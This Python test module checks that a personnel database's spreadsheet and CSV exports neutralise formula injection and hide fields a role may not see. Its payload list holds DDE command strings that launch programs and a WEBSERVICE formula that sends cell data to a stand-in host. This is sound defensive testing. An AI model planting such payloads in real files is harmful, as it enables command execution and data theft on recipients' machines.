"""Figure 19: what agencies typed never becomes a formula in a file that goes out, and no file holds a field above the
role that takes it. Files are read again by other programs than those that wrote them.
"""

import random
import subprocess
import tempfile
from collections.abc import Callable
from io import BytesIO
from itertools import product
from pathlib import Path
from shutil import which
from typing import Any, Final

import openpyxl
import python_calamine
from sqlalchemy import make_url, select

from dashboards.chart_export import workbook
from talentdb.access.accounts import create_account, principal_of
from talentdb.access.context import unit_of_work
from talentdb.access.keyring import open_keyring
from talentdb.access.matrix import matrix
from talentdb.access.principal import OPERATOR, Role
from talentdb.db.engine import make_engine
from talentdb.db.tables import agency
from talentdb.people.export import iter_people
from talentdb.people.export_rules import columns_of
from talentdb.people.files import write_people
from talentdb.reporting.annex import as_xlsx
from talentdb.reporting.blocks import Sheet
from tests.talentdb.conftest import Province
from tests.trust.figure import Figure, Scale
from tests.trust.scratch import own_services, reference_database

__all__ = ["CANARIES", "fields_above", "files_of", "live_in", "measure", "payloads"]

_STARTS: Final = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", '"=', ";=", ",=",
                  "\ufeff=", "\u200b=", "{=", "=-", "=+", "==", "@@", "+-", "%0A=")  # fmt: skip
_BODIES: Final = (
    "1+1", "SUM(1,2)", "cmd|' /C calc'!A0", 'HYPERLINK("http://vi-du.example","x")', "A1", "DDE(\"x\";\"y\";\"z\")",
    'WEBSERVICE("http://vi-du.example/?"&A1)', 'IMPORTXML("http://vi-du.example","//a")', "INDIRECT(\"A1\")",
    "MSEXCEL|'\\..\\..\\x'!''", "2+5+cmd|' /C calc'!A0", "rundll32|'URL.dll'!A", "-1", "x", "{1,2}", "$A$1", "A1:B2",
    "now()", "'A'!B1", "EXEC(\"x\")",
)  # fmt: skip
CANARIES: Final = {
    "ethnicity_code": "07", "party_member": True, "phone": "0987000111", "email": "canary@vi-du.example",
    "address": "Thôn Canaryaddress", "native_place": "Xã Canarynative", "place_of_birth": "Huyện Canarybirth",
    "staff_code": "CANARYSTAFF",
}  # fmt: skip
"""A value of each field that some role does not get, found again as text in a file."""


def payloads(count: int, seed: int = 19) -> list[str]:
    """So many texts that some program takes for a formula; all kinds first, then more by chance."""
    chance = random.Random(seed)
    every = [start + body for start, body in product(_STARTS, _BODIES)]
    more = (chance.choice(_STARTS) + chance.choice(_STARTS) + chance.choice(_BODIES) for _ in range(count))
    return [*every, *more][:count]


def files_of(texts: list[str], folder: Path) -> list[Path]:
    """Files that go out, with every text in them: people, the annexes of reports, the figures behind charts."""
    people = [{"person_id": at, "full_name": text, "position_title": text, "expertise": [text, "x"]}
              for at, text in enumerate(texts)]  # fmt: skip
    columns = ("person_id", "full_name", "position_title", "expertise")
    for kind in ("xlsx", "csv"):
        write_people(people, kind, folder / f"people.{kind}", {"full_name": texts[0]}, columns)
    sheet = Sheet("Một", ["Chữ", "Lần nữa"], [[text, text] for text in texts], [20, 20])
    (folder / "annex.xlsx").write_bytes(as_xlsx(texts[0], [sheet], texts[1]))
    (folder / "chart.xlsx").write_bytes(workbook("Hình", texts[0], [{texts[0]: text, "b": 1} for text in texts]))
    return sorted(folder.iterdir())


def live_in(path: Path, folder: Path) -> list[str]:
    """Formulas that a program finds in a file, each with the program; LibreOffice where it is."""
    found = []
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(BytesIO(path.read_bytes()))
        found += [f"openpyxl {path.name} {cell.coordinate}" for sheet in book for row in sheet.iter_rows()
                  for cell in row if cell.data_type == "f"]  # fmt: skip
        book.close()
        # It gives values alone: a text that stayed one has its first sign still.
        rows = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
        found += [
            f"calamine {path.name}: {cell!r}" for row in rows for cell in row if isinstance(cell, (bool, Exception))
        ]
    if (office := which("soffice")) is not None:
        into = ["--headless", "--convert-to", "fods", "--outdir", str(folder), str(path)]
        profile = f"-env:UserInstallation=file://{folder}/profile"
        subprocess.run([office, profile, *into], check=True, capture_output=True, timeout=300)
        text = (folder / f"{path.stem}.fods").read_text(encoding="utf-8")
        found += [f"LibreOffice {path.name}"] * text.count("table:formula=")
    return found


def fields_above(province: Province, as_role: Callable[[Role], Any], folder: Path) -> list[str]:
    """Values in files of a role that the matrix keeps from it, and those that are not there though they should be.

    `province` is empty; a person with a value in each such field is put there.
    """
    one = {"full_name": "Nguyễn Thị Thử", "birth_date": "1980-05-17", "birth_date_precision": "day"}
    province.load("SO-KHCN", [{**one, "national_id": "033180001234", **CANARIES}])
    wrong = []
    for role in sorted({Role.SEARCHER, Role.HOME_AFFAIRS, Role.STEWARD}):
        principal = as_role(role)
        for kind in ("json", "xlsx", "csv"):
            with unit_of_work(province.engine, principal) as connection:
                rows = list(iter_people(connection, principal, keyring=province.keyring, purpose="thử",
                                        with_sources=True))  # fmt: skip
            path = folder / f"{role}.{kind}"
            write_people(rows, kind, path, columns=columns_of(principal))
            wrong += [f"{role} {kind}: {said}" for said in _differences(path, role)]
    return wrong


def _differences(path: Path, role: Role) -> list[str]:
    """What a file shows above the role, and what it should show and does not."""
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(BytesIO(path.read_bytes()))
        text = "\n".join(str(cell.value) for row in book.active.iter_rows() for cell in row)  # type: ignore[union-attr]
        book.close()
    else:
        text = path.read_text(encoding="utf-8")
    found = ["national_id in the clear"] if "033180001234" in text else []
    hidden = matrix().hidden_from(role)
    for field, value in CANARIES.items():
        named = field in text
        shown = named if len(str(value)) < 5 or value is True else str(value) in text
        if shown == (field in hidden):
            found.append(f"{field} {'shown' if shown else 'missing'}")
    return found


def measure(scale: Scale) -> list[Figure]:
    """A thousand payloads through every kind of file, and every role that exports."""
    count = 1000 if scale == "full" else 60
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        (folder / "made").mkdir()
        live = [one for path in files_of(payloads(count), folder / "made") for one in live_in(path, folder)]
        above = _above(folder)
    programs = "openpyxl, calamine" + (", LibreOffice" if which("soffice") else "; no LibreOffice here")
    first = f"; first: {live[0]}" if live else ""
    return [
        Figure(19, "formulas that live in files that go out", f"0 of {count} payloads in 4 files",
               f"{len(live)} ({programs}){first}", not live),
        Figure(19, "fields above the role in exports", "0", f"{len(above)} of 3 roles x 3 formats{above[:1] or ''}",
               not above),
    ]  # fmt: skip


def _above(folder: Path) -> list[str]:
    with own_services() as services, reference_database(services) as name:
        engine = make_engine(
            make_url(services.database.app_url()).set(database=name).render_as_string(hide_password=False)
        )
        keyring = open_keyring(folder / "keys")
        with unit_of_work(engine, OPERATOR) as connection:
            codes = {row.code: row.agency_id for row in connection.execute(select(agency.c.code, agency.c.agency_id))}

        def as_role(role: Role) -> Any:
            with unit_of_work(engine, OPERATOR) as connection:
                create_account(connection, OPERATOR, login=f"t-{role}", password="một câu thử đủ dài 1!", role=role,
                               display_name=str(role), is_demo=True)  # fmt: skip
                return principal_of(connection, f"t-{role}")

        found = fields_above(Province(engine, keyring, codes), as_role, folder)
        engine.dispose()
        return found
